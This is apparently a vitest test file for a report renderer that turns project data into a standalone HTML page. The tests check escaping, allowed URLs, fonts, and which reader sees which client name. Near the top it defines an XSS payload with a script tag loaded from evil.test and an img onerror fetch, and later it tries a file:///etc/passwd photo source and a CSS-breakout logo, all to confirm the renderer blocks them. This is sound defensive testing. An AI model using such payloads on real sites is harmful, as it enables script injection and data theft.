import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sampleReport } from '../../../../tests/support/report-sample.ts';
import { cssString } from '../css.ts';
import type { Report } from '../types.ts';
import { renderReport } from './render.ts';

const evil = `</style></title><script src="http://evil.test/x.js"></script><img src=x onerror="fetch('//evil.test')">"'&`;

const clarifications = [{ text: 'Does a spur count?', answer: 'Yes.', answered: '2026-11-02T15:30:00Z' }];

const forms = ['report', 'profile', 'matrix', 'questionnaire'] as const;
const kept = ['kind', 'form', 'paper', 'type', 'startDate', 'deadline', 'tz'];
const picture = 'data:image/png;base64,iVBORw0=';

/** Every text and picture of a report replaced by something that wants out. */
function hostile(form: Report['form']): Report {
  const sample = sampleReport({ properties: 2, photos: [{ dataUri: picture, description: 'Aerial' }] });
  const questionnaire = sample.properties[0]?.sections.map((section) => ({
    ...section,
    questions: section.questions.map((one) => ({
      ...one,
      type: 2,
      choices: ['Rail', 'River'],
      note: 'Survey',
    })),
  }));
  const scope = ['Phase 2', 'Utilities and Workforce'];
  const report = { ...sample, form, logo: picture, scope, questionnaire, clarifications };
  const text = JSON.stringify(report, (key, value: unknown) =>
    typeof value === 'string' && !kept.includes(key) ? `${evil}${value}` : value,
  );
  return JSON.parse(text);
}

describe('a page', () => {
  test.each(forms)('of the form %s holds no markup and no address that came in a text', (form) => {
    const html = renderReport(hostile(form));
    expect(html).not.toContain('<script');
    expect(html).not.toMatch(/<img/);
    expect(html).not.toMatch(/url\((?!data:font|'data:image\/svg)/);
    for (const element of [/<style>/g, /<\/style>/g, /<title>/g, /<body>/g])
      expect(html.match(element)).toHaveLength(1);
    const addresses = [...html.matchAll(/(?:src|href)="([^"]*)"/g)].map((one) => one[1] ?? '');
    for (const address of addresses) expect(address).toMatch(/^(?:#|mailto:)/);
    expect(html).toContain('&lt;/style&gt;');
  });

  test('shows the logo on the cover and at the top of each page, and only PNG and JPEG', () => {
    const report = sampleReport();
    const html = renderReport({ ...report, logo: picture });
    expect(html).toContain(`<img src="${picture}" alt="Logo of Demo Development Agency"`);
    expect(html).toContain(`url(${picture})`);
    for (const logo of [
      'https://evil.test/logo.png',
      'data:image/svg+xml;base64,PHN2Zz4=',
      `${picture})} x{`,
    ])
      expect(renderReport({ ...report, logo })).toBe(renderReport(report));
  });

  test('names no address but data: and the contact’s', () => {
    const html = renderReport(
      sampleReport({
        properties: 2,
        photos: [{ dataUri: 'data:image/png;base64,iVBORw0=', description: 'Aerial' }],
      }),
    );
    const sources = [...html.matchAll(/(?:src|href)="([^"]*)"|url\(([^)]*)\)/g)].map(
      (one) => one[1] ?? one[2] ?? '',
    );
    expect(sources.length).toBeGreaterThan(10);
    for (const source of sources) expect(source).toMatch(/^'?(?:#|data:|mailto:)/);
  });

  test('leaves out photos that are not their own bytes', () => {
    for (const dataUri of [
      'http://evil.test/a.png',
      'file:///etc/passwd',
      'data:image/svg+xml;base64,PHN2Zz4=',
      'data:text/html;base64,PGI+',
    ]) {
      expect(renderReport(sampleReport({ photos: [{ dataUri, description: 'Aerial' }] }))).not.toContain(
        '<img',
      );
    }
  });

  test('is small: a property of 157 questions takes less than 200 kB beside its photos', () => {
    expect(renderReport(sampleReport()).length).toBeLessThan(200_000);
  });

  test('carries the fonts that its letters need, and no others', () => {
    const plain = renderReport(sampleReport());
    const polish = sampleReport();
    const html = renderReport({ ...polish, project: { ...polish.project, name: 'Łódź Компания' } });
    const fonts = (page: string) => page.match(/@font-face/g)?.length;
    expect(fonts(plain)).toBe(2);
    expect(fonts(html)).toBe(6);
  });
});

describe('who reads it', () => {
  test('the owner reads the client’s name, everybody else the confidential one', () => {
    expect(renderReport(sampleReport({ kind: 'owner' }))).toContain('Northwind Battery Materials Plant');
    for (const kind of ['delegator', 'participant', 'submissionSummary'] as const) {
      const html = renderReport(sampleReport({ kind }));
      expect(html).toContain('Project Heron');
      expect(html).not.toContain('Northwind');
    }
  });

  test('the submission summary lists properties and how far they are, but no answer and no requirement', () => {
    const html = renderReport(sampleReport({ kind: 'submissionSummary', properties: 3 }));
    expect(html).toContain('Harbor Parkway Megasite');
    expect(html).toContain('143 of 157');
    expect(html).not.toContain('M-2 General Industrial');
    expect(html).not.toContain('Not met');
  });
});

test('clarifications are a section where they are asked for, and about the project where they name no question', () => {
  expect(renderReport(sampleReport())).not.toContain('Clarifications');
  const html = renderReport({ ...sampleReport(), clarifications });
  expect(html).toContain('<small dir="auto">About the project</small>Does a spur count?');
  expect(renderReport({ ...sampleReport(), clarifications: [] })).toContain(
    'No clarification has been answered to everybody.',
  );
});

describe('empty and odd projects', () => {
  test('no property and nobody yet: the report says so', () => {
    const html = renderReport({ ...sampleReport({ properties: 0 }), participants: [] });
    expect(html).toContain('No property has been added to this project yet.');
    expect(html).toContain('Nobody takes part in this project yet.');
  });

  test('any text stays inside a CSS string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(cssString(text)).toMatch(/^"(?:[A-Za-z0-9]|\\[0-9a-f]+ )*"$/);
      }),
    );
  });
});
